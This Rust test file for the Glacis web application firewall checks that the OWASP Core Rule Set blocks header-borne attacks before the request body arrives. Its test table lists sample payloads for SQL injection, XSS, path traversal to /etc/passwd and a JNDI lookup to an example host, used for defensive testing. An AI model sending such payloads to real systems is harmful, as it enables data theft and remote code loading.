//! CRS with the base configuration and the defaults of Glacis refuses attacks in a request's head while the body has not come, at every paranoia
//! level, and refuses nothing that it would pass.
//!
//! CRS is not in the repository. `cargo xtask fetch` brings it.
#![allow(clippy::unwrap_used, clippy::panic, reason = "a test ends at what it did not expect")]

use std::{net::Ipv4Addr, path::PathBuf, sync::Arc, time::Duration};

use glacis_engine::{Endpoint, Input, Limits, Program, Start, Transaction};
use glacis_rules::{Defaults, FileSource};

fn program(level: u8) -> Arc<Program> {
    let crs = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../.fetched/crs-4.25.0");
    let text = |text: String| Input::Text { name: "own.conf".to_owned(), text };
    let level = text(format!(
        "SecAction \"id:1,phase:1,pass,nolog,setvar:tx.blocking_paranoia_level={level}\""
    ));
    let found = glacis_rules::crs(&crs);
    let found = found.unwrap_or_else(|error| panic!("{error}: run `cargo xtask fetch`"));
    let on = text("SecRuleEngine On".to_owned());
    let mut found = found;
    Defaults::Glacis.weigh(&mut found);
    found.splice(2..2, Defaults::Glacis.inputs());
    let inputs: Vec<Input> = [level].into_iter().chain(found).chain([on]).collect();
    Arc::new(Program::build(&inputs, &FileSource::new(), Limits::default()).unwrap())
}

type Fields = &'static [(&'static str, &'static str)];

fn begin(transaction: &mut Transaction, uri: &str, more: Fields) {
    let endpoint = Endpoint { address: Ipv4Addr::LOCALHOST.into(), port: 1 };
    let time = Duration::from_secs(1_700_000_000);
    transaction.start(&Start { unique_id: "1", time, client: endpoint, server: endpoint });
    transaction.request_line(b"POST", uri.as_bytes(), b"HTTP/1.1");
    let form = ("Content-Type", "application/x-www-form-urlencoded");
    let usual = [("Host", "shop.example"), ("User-Agent", "Mozilla/5.0"), ("Accept", "*/*"), form];
    for (name, value) in usual.iter().chain(more) {
        transaction.request_header(name.as_bytes(), value.as_bytes());
    }
    transaction.evaluate_request_headers();
}

#[test]
fn attacks_in_heads_are_refused_before_the_body() {
    const ROWS: [(&str, Fields, bool); 7] = [
        ("/?q=1'+union+select+password+from+users--", &[], true),
        ("/?q=<script>alert(1)</script>", &[], true),
        ("/?q=/../../../../etc/passwd", &[], true),
        ("/", &[("Cookie", "a=1' or 1=1 union select 1,2--")], true),
        ("/", &[("Referer", "${jndi:ldap://a.example/b}")], true),
        ("/cart?id=1&color=red", &[("Content-Length", "1000")], false),
        ("/", &[], false),
    ];
    for level in 1..=4 {
        let program = program(level);
        assert!(program.can_refuse_before_body());
        let mut transaction = Transaction::new(Arc::clone(&program));
        for (uri, headers, is_attack) in ROWS {
            begin(&mut transaction, uri, headers);
            let refused = transaction.refuses_before_body();
            assert!(refused || !is_attack, "{uri} {headers:?} at level {level}");
            if refused {
                begin(&mut transaction, uri, headers);
                transaction.request_body(b"a=b&c=d");
                let verdict = transaction.evaluate_request_body();
                assert!(verdict.refusal().is_some(), "{uri} at level {level} with its body");
            }
            assert!(is_attack || level > 2 || !refused, "{uri} {headers:?} at level {level}");
        }
    }
}
